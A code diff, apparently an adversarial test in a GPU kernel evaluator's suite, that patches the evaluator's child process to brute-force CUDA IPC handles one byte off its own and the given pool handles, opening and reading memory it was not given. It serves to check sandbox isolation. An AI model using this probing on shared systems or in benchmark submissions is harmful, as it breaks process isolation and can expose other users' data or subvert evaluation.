@@ -1,10 +1,17 @@
-"""Attacks: memory it was not given, through CUDA IPC. The kernel takes the IPC handles of its own
-input pools and tries every handle one byte away (each byte up and down) to open some other
-allocation of the evaluator's (the other kernel's input pool, say). It reads what it opens and
-says on stderr, per handle it opened, which byte it changed, the allocation's size and whether
-its bytes are those of one of its own pools (a second mapping of its own) or not.
-Expected: nothing of another kernel's opens; whatever does, the kernel gains nothing (it only
-reads): no faster than untouched."""
+"""Attacks: memory it was not given, through legacy CUDA IPC handles, which can be guessed. The
+kernel exports a handle of an allocation of its own (cudaMalloc's) and, at its first call, tries
+the handles that differ from it in one byte (every byte, a few steps each way; the bytes that
+hold the allocation's address, many steps). A handle of its own allocation opens it again at
+another address: that is told by its size and marker bytes (read only where the size is its
+own: a read of some other mapping can end the reader's context). It says on stderr how many it
+tried and, per handle that opened memory other than its own, which byte it changed and the
+memory's size. Where the evaluator gave it IPC handles of its input pools (up to 2026-11-27),
+it tries the handles one byte off those too, as an earlier version of this file did: that
+opened the other kernel's input pool.
+With the evaluator of 2026-11-27 and earlier (input pools and the other kernel's outputs
+shared by IPC handle) it opened the other kernel's input pool. Expected now: nothing opens
+(pools and outputs are shared by file descriptor; no honest process exports an IPC handle),
+and the kernel reads as the untouched copy."""
 import ctypes
 
 import gpu  # the evaluator's own file beside child.py: its class, patched here for this process
@@ -16,62 +23,116 @@ class _Handle(ctypes.Structure):
     _fields_ = [("reserved", ctypes.c_char * 64)]
 
 
-_cu.cuIpcOpenMemHandle_v2.argtypes = [ctypes.POINTER(ctypes.c_uint64), _Handle, ctypes.c_uint]
-_cu.cuMemcpyDtoH_v2.argtypes = [ctypes.c_void_p, ctypes.c_uint64, ctypes.c_size_t]
-_cu.cuMemGetAddressRange_v2.argtypes = [ctypes.POINTER(ctypes.c_uint64), ctypes.POINTER(ctypes.c_size_t), ctypes.c_uint64]
-_tried = set()
+u64 = ctypes.c_uint64
+_cu.cuIpcOpenMemHandle_v2.argtypes = [ctypes.POINTER(u64), _Handle, ctypes.c_uint]
+_cu.cuIpcGetMemHandle.argtypes = [ctypes.POINTER(_Handle), u64]
+_cu.cuMemAlloc_v2.argtypes = [ctypes.POINTER(u64), ctypes.c_size_t]
+_cu.cuMemGetAddressRange_v2.argtypes = [ctypes.POINTER(u64), ctypes.POINTER(ctypes.c_size_t), u64]
+_cu.cuMemsetD8_v2.argtypes = [u64, ctypes.c_ubyte, ctypes.c_size_t]
+_cu.cuMemcpyDtoH_v2.argtypes = [ctypes.c_void_p, u64, ctypes.c_size_t]
+_done = []
+OWN = 2 << 20
+MARK = 0xA7
 
 
-def _head(ptr):
+def _is_own(p, size):
+    if size != OWN:
+        return False
+    buf = ctypes.create_string_buffer(64)
+    return _cu.cuMemcpyDtoH_v2(buf, p, 64) == 0 and buf.raw == bytes([MARK]) * 64
+
+
+def _variants(raw):
+    for i in range(64):
+        steps = range(1, 65) if 48 <= i < 56 else range(1, 9)
+        for s in steps:
+            for d in (s, 256 - s):
+                v = bytearray(raw)
+                v[i] = (v[i] + d) % 256
+                yield i, d, bytes(v)
+
+
+def _probe():
+    own = u64()
+    if _cu.cuMemAlloc_v2(ctypes.byref(own), OWN) != 0 or _cu.cuMemsetD8_v2(own, MARK, OWN) != 0:
+        report("could not allocate memory of its own")
+        return
+    h = _Handle()
+    if _cu.cuIpcGetMemHandle(ctypes.byref(h), own) != 0:
+        report("could not export a handle of its own")
+        return
+    raw = bytes(ctypes.string_at(ctypes.addressof(h), 64))
+    tried, opened, again = 0, [], 0
+    for i, d, v in _variants(raw):
+        tried += 1
+        p = u64()
+        if _cu.cuIpcOpenMemHandle_v2(ctypes.byref(p), _Handle.from_buffer_copy(v), 1) != 0 or p.value == own.value:
+            continue
+        base, size = u64(), ctypes.c_size_t()
+        _cu.cuMemGetAddressRange_v2(ctypes.byref(base), ctypes.byref(size), p.value)
+        if _is_own(p.value, size.value):
+            again += 1
+            continue
+        opened.append(f"byte {i} {'+' if d < 128 else '-'}{min(d, 256 - d)}: {size.value} bytes")
+    report(f"tried {tried} handles: its own memory again {again}, other memory {len(opened)}: {'; '.join(opened[:12])}")
+
+
+def _head(p):
     buf = ctypes.create_string_buffer(256)
-    rc = _cu.cuMemcpyDtoH_v2(buf, ptr, 256)
-    return bytes(buf.raw) if rc == 0 else None
+    return buf.raw if _cu.cuMemcpyDtoH_v2(buf, p, 256) == 0 else None
 
 
-def _probe(handles, own):
+def _from_given(handles, own):
+    """One byte off each pool handle the evaluator gave (each byte up and down by one)."""
     heads = {_head(p) for p in own}
-    opened = []
+    tried, opened = 0, []
     for h in handles:
         raw = bytes.fromhex(h)
         for i in range(64):
             for d in (1, 255):
                 v = bytearray(raw)
                 v[i] = (v[i] + d) % 256
-                v = bytes(v)
-                if v in _tried or v.hex() in handles:
+                if v.hex() in handles:
                     continue
-                _tried.add(v)
-                p = ctypes.c_uint64()
-                if _cu.cuIpcOpenMemHandle_v2(ctypes.byref(p), _Handle.from_buffer_copy(v), 1) != 0 or p.value in own:
+                tried += 1
+                p = u64()
+                if _cu.cuIpcOpenMemHandle_v2(ctypes.byref(p), _Handle.from_buffer_copy(bytes(v)), 1) != 0 or p.value in own:
                     continue
-                base, size = ctypes.c_uint64(), ctypes.c_size_t()
+                base, size = u64(), ctypes.c_size_t()
                 _cu.cuMemGetAddressRange_v2(ctypes.byref(base), ctypes.byref(size), p.value)
-                head = _head(p.value)
-                opened.append(f"byte {i}{'+' if d == 1 else '-'}1: {size.value} bytes, {'its own pool' if head in heads else 'NOT its own'}")
-    report(f"tried {len(_tried)} handles, opened {len(opened)}: {'; '.join(opened[:12])}")
+                if _head(p.value) not in heads:
+                    opened.append(f"byte {i}{'+' if d == 1 else '-'}1: {size.value} bytes")
+    report(f"from the {len(handles)} pool handles it was given: tried {tried}, other memory {len(opened)}: {'; '.join(opened[:6])}")
 
 
 _setup = gpu.ChildSide.setup
-_pending = {}
+_given = {}
 
 
-def _setup_then_probe(self, msg):
+def _setup_then_keep(self, msg):
     reply = _setup(self, msg)
-    _pending["handles"], _pending["side"] = msg["handles"], self
+    _given["handles"], _given["side"] = msg.get("handles"), self
     return reply
 
 
 def _first_call_probes(f):
-    # At the first call after a set-up: the inputs are in the pools by then, so that its own
-    # pools and another's can be told apart by what they hold.
+    # Its own handle's neighbours once; the given handles' at the first call after each set-up
+    # (the other kernel's pool may be made after this kernel's first one).
     def call(*a, **k):
-        if _pending:
-            side = _pending.pop("side")
-            _probe(_pending.pop("handles"), set(side.pools))
+        if not _done:
+            _done.append(True)
+            _probe()
+        if _given:
+            handles, side = _given.pop("handles"), _given.pop("side")
+            if handles:
+                _from_given(handles, {p if isinstance(p, int) else p[0] for p in side.pools})
+            else:
+                report("the evaluator gave it no IPC handle")
         return f(*a, **k)
 
     return call
 
 
-gpu.ChildSide.setup = _setup_then_probe
+gpu.ChildSide.setup = _setup_then_keep
+
 install(_first_call_probes)
